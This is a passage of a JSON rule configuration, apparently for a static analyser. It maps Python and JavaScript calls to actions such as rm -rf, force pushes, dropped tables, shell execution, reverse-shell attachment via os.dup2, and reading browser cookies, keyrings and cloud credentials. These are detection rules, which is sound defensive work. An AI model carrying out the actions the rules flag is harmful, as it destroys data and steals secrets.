-]|=>|->|\\\\?\\\\.|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+=|\\\\.\\\\.\\\\.|==|===|::)$"],"continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\\.\\\\.)$"],"escape":["\\\\\\\\(?:x(\
[\\\\da-fA-F]{2})|u([\\\\da-fA-F]{4})|u\\\\{([\\\\da-fA-F]{1,6})\\\\}|([0-7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"prefixed_quote":["(?<prefix>[rbfuR\
BFUtT]{0,2})(?<close>'''|\\"\\"\\"|'|\\")","y"],"quoting_q":["(qq|qx|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_percent":["(%[wWiIqQxr]?)([({[<|\
!/])","y"],"quoting_none":["(?!)","y"],"heredoc_perl":["<<~?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"heredoc_php":["<<<[ \\\\t]*(?:\\"(\\\\w+)\\"|'(\\\\w+)'|(\\\\w+))"\
,"y"],"heredoc_ruby":["<<[~-]?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]\
){0,300}\\\\]|[^/\\\\\\\\[\\\\n]){0,300}/[a-z]*","y"],"opening_f_string":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\\{","y"],"opening_dolla\
r":["\\\\{(?=\\\\$)|@\\\\{(?=\\\\[)","y"],"opening_none":["(?!)","y"],"dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{0,40}\\\\]|\\\\{[^}\\\\n]{0,4\
0}\\\\})?","y"],"table_deed":["^(?:drop-table|truncate|delete-all|update-all)$"],"temporary":["^TEMP(?:ORARY)?$"],"no_rows":["\\\\b(?:LIMIT 0|WHERE \\\\(* ?(?:FALSE|0\
|1 = [02]|0 = 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?:1|true|'?(\\\\w+)'? *= *'?\\\\1'?|1 *< *2|not false)(?: *\\\\)*)$","i"],\
"client_command":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\\w*[ \\\\t]*(?:\\\\|[ \\\\t]*(?<piped>.*)|(?:.{0,4000}?\\\\b(?:program|PROG\
RAM)[ \\\\t]+'(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\\\\n]*|/\\\\*!\\\\d*|/\\\\*[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\*/|(?<quote>['\\"\\\\x60])(\
?<quoted>(?:(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?|\\\\$(?<tag>\\\\w*)\\\\$(?<text>[\\\\s\\\\S]*?)(?:\\\\$\\\\k<tag>\\\\$|$)|(?<word>\
[\\\\p{L}_@#$][\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(?:each)?[\\\\s(]{0,20}(?:await[\\\\s(]{1,9})?(?:(?:const|let|var|my)\\\\s\
{1,9})?\\\\(?([\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\\\\s*(\\\\w[\\\\w, ]*)\\\\||\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\blambda\\\\s+(\\\\w+)","g"],\
"test_clause":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,300})","g"],"tested_ending":["[\\"']\\\\.([\\\\w.]{1,12})[\\"']|\\\\\\\\\\\\.(?:\\\
\\(\\\\??:?)?([\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\"']([\\\\w.-]+)[\\"']","g"],"known_command":["^(?![\\\\s\\\\S]*(?:^|[;&|\\\\\
n(\`{!]\\\\s*|\\\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\w=\\\\S*\\\\s+)['\\"]?\\\\u{FFFC})\\\\s*[\\\\w./-]","u"],"deletes":["^\\\\s*(?:s\
udo\\\\s+)?(?:rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"new_path":["^/tmp/(?:tmp\\\\.)?\\\\uFFFC(?=/|$)"],"peer_parameter":["^(?\
:req|request|reader)$"],"class_name":["^[A-Z]\\\\w*$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\w+)(?:\\\\.bake)?$"],"text_method":["^(?:str|bytes)\\\\.([lr]?strip\
|lower|upper|r?split|splitlines|encode|decode)$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"static_method":["^(?:self|this|[A-Z]\\\\w*)\\\\.(\\\\w+)$"],"true\
_or_false":["^(?:True|False|true|false)$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?[\\\\w.-]+)$","su"],"uses_arguments":["arg|shift|\\\\$[1-9*\
@]","i"],"uses_environment":["env","i"],"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|read\\\\(|argf|ARGV|\\\\$\\\\d|getline|print","i"]},"texts":{"X\
ML or HTML":["^\\\\s*<(!doctype|\\\\?xml|[a-z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\||[-*] \\\\S)|\\\\n\`\`\`"],"a log":["^\\\\s*(\\\\[?\\\\d{4}-\\\\d\\\\d-\
\\\\d\\\\d[T ]|Traceback \\\\(most recent|\\\\w*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\\u2019]*[, ]\\\\s*\\\\p{L}[^\\\\n]*[.!?:)](\\\\s|$)","u"]}},"la\
nguages":{"languages":{"python":{"lexer":{"comment":["#"],"sigils":"","interpolation":"f_string","triple":true,"single_escapes":true,"quoting":"none","patterns"\
:false,"lines":"indent"},"program":"python3","blocks":"indent","member_operators":["."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["de\
f"],"inputs":{"sys.argv":"argv","os.environ":"environment","sys.stdin":"lines","flask.request.args":"peer","flask.request.form":"peer","flask.request.data":"pee\
r","flask.request.json":"peer","flask.request.values":"peer","flask.request.headers":"peer","bottle.request.query":"peer","bottle.request.forms":"peer","bottle.\
request.body":"peer","self.rfile":"peer"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobotocore.","aioboto3.","google.cloud.","googleapiclient.",\
"firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","oci.","openstack.","libcloud.","stripe.","github.Github"\
,"gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pinecone.","qdrant_client.","weaviate.","pymilvus.","algoli\
asearch.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","twilio.","sendgrid.","supabase.","appwrite.","contentfu\
l_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmoxer.","vercel.","netlify.","tencentcloud.","aliyunsdk",\
"alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira.","atlassian.","notion_client.","asana.","replicate.",\
"pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.","etcd3.","kazoo.","asyncssh.","pysftp.","smbclient.","dropbox.","cloudinary.","mailchimp_marketi\
ng.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk.","msgraph.","exchangelib.","simple_salesforce.","hubspot."],"texts":{"stat.S_ISUID":"u+s","sta\
t.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.curdir":".","os.pardir":"..","__file__":"./program.py","string.ascii_lowercase":"abcdefghijklmnopqr\
stuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os.system","io.open":"open","codecs.open":"open","Path":"pathlib.Path","subprocess.os.system":"os.\
system","urllib2.urlopen":"urllib.request.urlopen","urllib.urlopen":"urllib.request.urlopen","urllib.urlretrieve":"urllib.request.urlretrieve","pd.read_csv":"pa\
ndas.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\.__dict__|\\\\.__call__$",""],["^Path(?=\\\\.)","pathlib.\
Path"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\\.(?=os\\\\.|open$)",""],["^aioshutil\\\\.","shutil."],["\
^(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathlib.Path"]],"functions":{"print":"print","sys.stdout.write":"print text","input":"input","raw_inpu\
t":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:path","os.unlink":"run rm $0:path","pathlib.Path.unlink":"run rm $0:path","os.rmdir":"run rmdir \
$0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs":"run rmdir -p $0:name","shutil.rmtree":"run rm -rf $0:path","send2trash.send2trash":"run rm -r\
f $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0:src $1:dst","os.replace":"run mv $0:src $1:dst","os.renames":"run mv $0:src $1:dst","shutil.mov\
e":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","shutil.copy2":"run cp $0:src $1:dst","shutil.copyfile":"run cp $0:src $1:dst","shutil.copytree":\
"run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":"run ln -s $0 $1","os.truncate":"run truncate -s 0 $0","os.mkfifo":"run mkfifo $0","os.mknod":"r\
un mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run chown $1:uid:user $0:path","os.lchown":"run chown $1:uid:user $0:path","shutil.chown":"run chown\
 $1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.NamedTemporaryFile":"made written /tmp/temporary","os.system":"shell $0:command:cmd","os.popen":"sh\
ell $0:command:cmd","commands.getoutput":"shell $0:command:cmd","asyncio.create_subprocess_shell":"shell $0:command:cmd","asyncio.create_subprocess_exec":"progr\
am $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spawn":"shell $0:args:command:cmd $:input:stdin","pexpect.run":"shell $0:args:command:cmd $:input:s\
tdin","subprocess.run":"shell $0:args:command:cmd $:input:stdin","subprocess.call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_call":"shell $0:a\
rgs:command:cmd $:input:stdin","subprocess.check_output":"shell $0:args:command:cmd $:input:stdin","subprocess.Popen":"shell $0:args:command:cmd $:input:stdin",\
"subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin","subprocess.getstatusoutput":"shell $0:args:command:cmd $:input:stdin","os.execl":"execute $0 $\
1..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1..","os.execlpe":"execute $0 $1..","os.execv":"execute $0 $1..","os.execvp":"execute $0 $1..","os.e\
xecve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posix_spawn":"execute $0 $1..","os.spawnl":"execute $1 $2..","os.spawnlp":"execute $1 $2..","os.spaw\
nle":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawnv":"execute $1 $2..","os.spawnvp":"execute $1 $2..","os.spawnve":"execute $1 $2..","os.spawnvpe"\
:"execute $1 $2..","sh.Command":"made program","os.dup2":"attach-shell /bin/sh | value","os.kill":"kill $0 $1","os.killpg":"kill $0 $1 group","psutil.Process":"\
made psutil.Process","psutil.process_iter":"entries any-process","psutil.pids":"entries","os.listdir":"names $0","os.fork":"if-sign:repeats run fork","os.setuid\
":"run setuid $last","os.seteuid":"run setuid $last","os.setresuid":"run setuid $last","os.setgid":"run setgid $last","os.chroot":"run chroot $0","ctypes.CDLL":\
"made library","exec":"eval $0","eval":"eval $0","fileinput.input":"if-no-sign:writes if-option:inplace=True run truncate -s 0 $0:files | read $0","flask.reques\
t.get_json":"received","flask.request.get_data":"received","urllib.parse.parse_qs":"received","urllib.parse.parse_qsl":"received","cgi.FieldStorage":"received",\
"psutil.net_connections":"run lsof -i","os.write":"send $0 $1","execfile":"read $0","linecache.getlines":"read $0","numpy.loadtxt":"read $0","pandas.read_csv":"\
read $0","pandas.read_json":"read $0","dotenv.dotenv_values":"read $0","envparse.env.read_envfile":"read $0","importlib.util.spec_from_file_location":"run pytho\
n3 $1","runpy.run_path":"run python3 $0","pickle.load":"load $0","pickle.loads":"load $0","dill.load":"load $0","dill.loads":"load $0","joblib.load":"load $0","\
torch.load":"load $0","marshal.loads":"load $0","zipfile.ZipFile":"made archive $0","tarfile.open":"open $0:file:name $1:mode","gzip.open":"open $0:file:name $1\
:mode","bz2.open":"open $0:file:name $1:mode","lzma.open":"open $0:file:name $1:mode","shelve.open":"made store $0","dbm.open":"made store $0","lmdb.open":"made\
 store $0","plyvel.DB":"made store $0","diskcache.Cache":"made store $0","h5py.File":"made store $0","zarr.open":"made store $0","zarr.open_group":"made store $\
0","tinydb.TinyDB":"made store $0","twine.commands.upload.main":"run twine upload x","twine.commands.upload.upload":"run twine upload x","configparser.ConfigPar\
ser":"made config","configparser.RawConfigParser":"made config","sqlalchemy.update":"made whole-update","sqlalchemy.sql.update":"made whole-update","crontab.Cro\
nTab":"if-option:tab if-no-sign:installs-cron made mock | made crontab","secretstorage.get_default_collection":"run secret-tool lookup x","secretstorage.get_all\
_collections":"run secret-tool lookup x","secretstorage.search_items":"run secret-tool lookup x","browser_cookie3.chrome":"run secret-tool lookup x","browser_co\
okie3.firefox":"run secret-tool lookup x","browser_cookie3.edge":"run secret-tool lookup x","browser_cookie3.load":"run secret-tool lookup x","dulwich.porcelain\
.push":"if-option:force=True run git push --force","dulwich.porcelain.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","git_filter_repo.RepoFilter":"run \
git filter-repo --force","git.Head.delete":"if-option:force=True run git branch -D","os.fdopen":"value $0","psycopg.sql.SQL":"value $0","psycopg2.sql.SQL":"valu\
e $0","sql.SQL":"value $0","asyncio.wait_for":"value $0","vars":"value $0","os.path.expanduser":"value $0","text":"value $0","sqlalchemy.text":"value $0","stati\
cmethod":"value $0","classmethod":"value $0","asyncio.gather":"value $0..","__import__":"module $0","importlib.import_module":"module $0","getattr":"attribute $\
0 $1","enumerate":"numbered $0","dotenv.set_key":"write $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip":"rows","itertools.zip_longest":"rows","\
itertools.chain":"flat","itertools.chain.from_iterable":"flat $0","operator.attrgetter":"value","globals":"name builtins","functools.partial":"made bound $0 $1.\
.","git.Repo":"made git $0","git.repo.Repo":"made git $0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git $0","pygit2.Repository":"made git $0","p\
ygit2.init_repository":"made git $0","unittest.mock.MagicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mock":"mock","unittest.mock.NonCallableMoc\
k":"mock","unittest.mock.create_autospec":"mock","unittest.mock.mock_open":"mock","OSError":"made error","IOError":"made error","FileNotFoundError":"made error"\
,"PermissionError":"made error","RuntimeError":"made error","ValueError":"made error","KeyError":"made error","TypeError":"made error","TimeoutError":"made erro\
r","ConnectionError":"made error","Exception":"made error","subprocess.CalledProcessError":"made error","subprocess.TimeoutExpired":"made error","unittest.mock.\
patch":"patcher $0:target $1:new","unittest.mock.patch.object":"patcher $0:target $1:attribute $2:new","setattr":"imitate $0 $1 $2","pytest.MonkeyPatch":"made m\
onkeypatch","moto.mock_aws":"if-no-sign:keeps-real if-no-sign:other-imports patcher services","botocore.stub.Stubber":"if-no-sign:keeps-real if-no-sign:other-im\
ports if-no-sign:several-clients patcher services","responses.activate":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","responses.RequestsMo\
ck":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests"\
,"requests_mock.mock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","respx.mock":"if-no-sign:keeps-real if-no-sign:besides-httpx patcher re\
quests","pyfakefs.fake_filesystem_unittest.Patcher":"if-no-sign:keeps-real if-no-sign:other-files patcher files","fsspec.filesystem":"if-says:^memory$ made mock\
","operator.methodcaller":"made message $0 $1..","string.Template":"made template $0","email.message.EmailMessage":"made mail","email.mime.text.MIMEText":"made \
mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_password":"secret","keyring.get_credential":"secret","netrc.netrc":"secret","dict":"from-pai\
rs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTransport":"made mock","chromadb.EphemeralClient":"made mock","sqlalchemy.create_mock_engine":"ma\
de mock","duckdb.connect":"if-none made database :memory: | made database $0:database","shlex.split":"split $0","json.loads":"parse-json $0","tempfile.mktemp":"\
value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryDirectory":"new-folder","sqlalchemy.delete":"made whole","sqlalchemy.sql.delete":"made who\
le","sqlalchemy.sql.expression.delete":"made whole","alembic.command.downgrade":"run alembic downgrade $1:revision","invoke.run":"shell $0","os.path.join":"join\
 $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","pathlib.Path.home":"value ~","pathlib.Path.cwd":"value .","os.getcwd":"value .","os.getenv":"\
environment $0 $1:default","os.environ.get":"environment $0 $1:default","os.environ.copy":"environment $0 $1:default","os.path.dirname":"dirname $0","tempfile.m\
kstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","glob.glob":"glob $0","glob.iglob":"glob $0","codecs.decode":"decode $0 $1","shutil.make_a\
rchive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connect $all","sqlite3.connect":"made database $0","socket.socket":"made socket","socket.gethos\
tbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dns.resolver.query":"run nslookup $0","smtplib.SMTP":"made connection","smtplib.SMTP_SSL":"\
made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made connection","httpx.Client":"made rest $:base_url","httpx.AsyncClient":"made rest $:base_u\
rl","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitepackages":"value ~/.local/lib/python3/site-packages","paramiko.Transport":"made ssh","para\
miko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.SerialGroup":"made ssh","fabric.ThreadingGroup":"made ssh","invoke.Context":"made ssh","http.c\
lient.HTTPSConnection":"made http","http.client.HTTPConnection":"made http","urllib.request.urlopen":"request GET $0:url $1:data","urllib.request.Request":"if-o\
ption:method open-request $:method $0:url $1:data | made request $0:url $1:data","urllib.request.urlretrieve":"run curl -o $1 $0","requests.request":"request $0\
 $1:url $:data $:json $:files $:content","requests.get":"request GET $0:url $:data $:json $:files $:content $:params","httpx.get":"request GET $0:url $:data $:j\
son $:files $:content $:params","requests.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","httpx.post":"request POST $0:url $1 $:data $:\
json $:files $:content $:params","requests.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","httpx.put":"request PUT $0:url $1 $:data $:jso\
n $:files $:content $:params","requests.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","httpx.patch":"request PATCH $0:url $1 $:data \
$:json $:files $:content $:params","requests.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","httpx.delete":"request DELETE $0:url $\
1 $:data $:json $:files $:content $:params","requests.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","httpx.head":"request HEAD $0:url \
$1 $:data $:json $:files $:content $:params","requests.Session":"name requests","requests.session":"name requests","aiohttp.ClientSession":"name requests","winr\
eg.DeleteKey":"run reg delete $1","django.core.management.call_command":"run django-admin $0","call_command":"run django-admin $0","numpy.save":"write $1","torc\
h.save":"write $1","joblib.dump":"write $1"},"methods":{"splitlines":"if-text split $self \\n","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --har\
d | if-git if-option:working_tree=True run git reset --hard","to_sql":"if-kept if-sign:database-address if-option:if_exists=replace run sql drop-table $0","push\
":"if-option:dry_run value | if-option:force=True if-git run git push --force origin | if-option:force=True if-owner:^(origin|remotes|remote)\\\\b|\\\\.remotes?\\\\b \
run git push --force origin | if-option:refspec run git push origin $:refspec","remove_volume":"run docker volume rm $0","prune_volumes":"run docker volume prun\
e -af","delete_head":"if-git if-option:force=True run git branch -D","remote":"if-git value $self","delete_tag":"if-git run git tag -d","checkout_head":"if-git \
if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout_index":"if-git if-arg:list run git checkout -- $0 | if-git if-sa\
ys:FORCE|^True$ run git checkout -f","checkout":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","put":"if-made:sft\
p run scp -r $0 host:/x","new":"if-made:crontab run crontab -","write":"if-made:crontab run crontab - | if-made:archive read $0 | send $self $0","write_to_user"\
:"if-made:crontab run crontab -","unlink":"if-made:library run rm $0 | if-gets:keys run sql flush FLUSHDB | if-made:sftp run cloud-sdk delete | run rm $self","r\
emove":"if-made:library run rm $0 | if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if-made:library run rm $0 | i\
f-made:sftp run cloud-sdk delete | run rmdir $self","add":"if-made:written read $0 | if-list append $self $all","get_frozen_credentials":"run aws configure expo\
rt-credentials","PowerOff":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-name:objects made some-rows","exclude":"if-name:\
objects made some-rows","delete":"if-made:some-rows run sql delete-some rows | if-gets:keys run sql flush FLUSHDB | if-made:connection run cloud-sdk delete | if\
-made:rest request-over DELETE $0 | if-git if-owner:^(references|branches|local|heads|tags)$ run git update-ref -d refs/heads/x","update":"if-made:some-rows run\
 sql delete-some rows | if-name:objects run sql update-all rows | if-made:rows run sql update-all rows | if-list append $self $all","rmd":"if-made:connection ru\
n cloud-sdk delete","open_sftp":"if-made:ssh made sftp","rm":"if-option:recursive=True run cloud-sdk delete","run":"if-made:ssh shell $0 | if-name:containers do\
cker-run | sql $0:query:sql","sudo":"if-made:ssh shell $0","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys",\
"rmtree":"run rm -rf $self","read_text":"read $self","read_bytes":"read $self","write_text":"write $self $0:data","write_bytes":"write $self $0:data","chmod":"c\
hmod $self $0:mode","walk":"if-text walk $self","read":"if-made:config read $0 | lines $self","set_content":"if-made:mail transfer sendmail $0 x","attach":"if-m\
ade:mail transfer sendmail $0 x","add_attachment":"if-made:mail transfer sendmail $0 x","substitute":"if-made:template format $origin","safe_substitute":"if-mad\
e:template format $origin","values":"if-made:whole-update value $self | if-map values $self","execution_options":"if-made:whole-update value $self","append":"if\
-list append $self $all","appendleft":"if-list append $self $all","extend":"if-list append $self $all","insert":"if-list append $self $all","create":"if-name:co\
ntainers docker-run","touch":"if-text run touch $self","rename":"if-text run mv $self $0","replace":"if-text if-args:2 replace $self $0 $1 | if-text if-args:1 r\
un mv $self $0","symlink_to":"run ln -s $0 $self","open":"if-text open $self $0:mode","writelines":"send $self $0","send":"send $self $0","sendall":"send $self \
$0","sendfile":"send $self $0","recv":"received","recvfrom":"received","recv_string":"received","recv_multipart":"received","makefile":"received","communicate":\
"send $self $0:input | value $self","readlines":"value $self","expanduser":"value $self","resolve":"value $self","absolute":"value $self","as_posix":"value $sel\
f","readline":"any-of $self","text":"value $0","glob":"glob $self $0","rglob":"glob $self ** $0","iterdir":"folder $self","connect":"if-made connect $all","conn\
ect_ex":"connect $all","sendto":"transfer nc $0 $1","sendmail":"if-made transfer sendmail $2 $self","send_message":"if-made transfer sendmail $0 $self","storbin\
ary":"if-made transfer ftp $1 $self","request":"request-over $0 $1 $2 $:body $:data $:json","exec_command":"shell $0","system":"if-made:library shell $0","kill"\
:"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -KILL $:pid | if-made:psutil.Process run kill -KILL $origin","terminate":"if-made:any\
-process if-chosen kill $self | if-made:any-process run pkill -TERM $:pid | if-made:psutil.Process run kill -TERM $origin","execute":"if-made:pending-delete run\
 sql delete-all rows | sql $0:query:sql","write_database":"if-kept if-sign:database-address if-option:if_table_exists=replace run sql drop-table $0","sql":"sql \
$0:query:sql","executescript":"sql $0:query:sql","executemany":"sql $0:query:sql","execute_query":"sql $0:query:sql","command":"sql $0:query:sql","execute_sql":\
"sql $0:query:sql","execute_async":"sql $0:query:sql","cursor":"if-made:database value $self","get":"entry $self $0 | if-map environment $0 $1","items":"if-map \
pairs $self","add_argument":"declare-option $:default","start":"start-patcher","__enter__":"start-patcher","setattr":"if-made:monkeypatch imitate $0 $1 $2","par\
se_args":"options","parse_known_args":"options","list":"if-name:volumes entries docker-volume","prune":"if-name:volumes run docker volume prune -af"}},"javascri\
pt":{"lexer":{"comment":["//"],"block_comment":["/*","*/"],"sigils":"$#","interpolation":"template","triple":false,"single_escapes":true,"quoting":"none","patte\
rns":true,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_keywo\
rds":["function"],"inputs":{"process.argv":"node-argv","Bun.argv":"node-argv","Deno.args":"args","process.env":"environment","Bun.env":"environment","process.st\
din":"text"},"sdks":["aws-sdk.","aws-sdk/","@aws-sdk/","@google-cloud/","googleapis","firebase-admin","@azure/","@kubernetes/","stripe","@octokit/","octokit","@\
slack/","@gitbeaker/","heroku-client","cloudflare","@vercel/","@netlify/","netlify","@elastic/","@opensearch-project/","minio","@pinecone-database/","@qdrant/",\
"weaviate","algoliasearch","meilisearch","typesense","kafkajs","auth0","@okta/","@shopify/","twilio","@sendgrid/","@supabase/","node-appwrite","dots-wrapper","c\
ontentful-management","@digitalocean/","hcloud-js","@linode/","oci-","@alicloud/","tencentcloud-sdk","openai","@pulumi/","@notionhq/","jira.js","@linear/","@dat\
adog/","@launchdarkly/","@sanity/client","replicate","cloudinary","@mux/","imagekit","@mailchimp/","mailgun","@hubspot/","intercom-client","node-zendesk","@atla\
ssian/","@clerk/","@contentful/","@storyblok/","@directus/","@strapi/","@neondatabase/api-client","@logtail/","bun.S3Client","Bun.S3Client","Bun.s3"],"texts":{"\
__dirname":".","__filename":"./program.js","path.sep":"/","process.execPath":"node","process.pid":"\\ufffc"},"aliases":{},"rewrites":[["\\\\.(?:promises|default)(?\
=\\\\.|$)|\\\\.wrappedMethod$",""],["^(?:fs/promises|graceful-fs)","fs"],["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModule|this|process)\\\\.(?=globa\
lThis|global|process|require|module|constructor|eval|Function|mainModule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\\\\.(\\\\w+?)Sync$","$1.$2"],[\
"^(?:bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(?:vitest|@jest/globals)\\\\.(?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],["^\\\\.{1,2}/(?:[\\\\w./-]*[./\
])?(?:db|knex)$","knex"],["^drizzle-orm/[\\\\w-]+\\\\.drizzle$","drizzle"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^(?:.*\\\\.)?constructor\\\\.con\
structor$|^(?:Async|Generator)Function$","Function"]],"functions":{"console.log":"print","console.info":"print","process.stdout.write":"print","require":"module\
 $0","import":"module $0","process.getBuiltinModule":"module $0","process.binding":"module $0","jest.requireActual":"module $0","vi.importActual":"module $0","c\
reateRequire":"name require","module.createRequire":"name require","eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewContext":"eval $0","vm.runInCont\
ext":"eval $0","vm.Script":"made vm-script $0","Function":"eval $last","setTimeout":"if-arg:text eval $0","child_process.exec":"shell $0 $:input","execa.execaCo\
mmand":"shell $0 $:input","shelljs.exec":"shell $0 $:input","$":"shell $0 $:input","Bun.$":"shell $0 $:input","stream.pipeline":"pipe $0 $1","stream/promises.pi\
peline":"pipe $0 $1","execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","execa.execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","child_\
process.spawn":"spawn $0 $1:args $:shell $:input","child_process.execFile":"spawn $0 $1:args $:shell $:input","Deno.Command":"spawn $0 $1:args $:shell $:input",\
"child_process.fork":"run node $0","shelljs.rm":"run rm $all","Bun.spawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:stdin:input","Bun.write":"writ\
e $0 $1","Deno.writeTextFile":"write $0 $1","Deno.writeFile":"write $0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1","Uint8Array":"value $:usua\
